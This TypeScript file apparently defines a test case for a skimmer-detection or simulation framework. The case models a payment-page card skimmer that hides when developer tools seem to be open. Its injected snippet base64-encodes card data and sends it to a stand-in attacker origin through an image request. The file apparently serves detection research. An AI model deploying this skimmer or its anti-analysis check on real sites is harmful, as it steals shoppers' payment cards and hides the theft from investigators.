import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'evade-window-size',
  why: 'The commonest check for developer tools (8 of 88 samples): the window is much larger than its page; and a window without a frame belongs to a robot.',
  covers: ['trigger: developer tools', 'hard: hides from analysts'],
  base: 'direct',
  install: (site) =>
    site.append(
      onPay(js`
    var w = outerWidth - innerWidth, h = outerHeight - innerHeight;
    if (outerWidth === 0 || w > 160 || h > 200 || screen.width < outerWidth) return;
    new Image().src = '${site.origins.evil}/z.gif?d=' + encodeURIComponent(btoa(card()));`),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
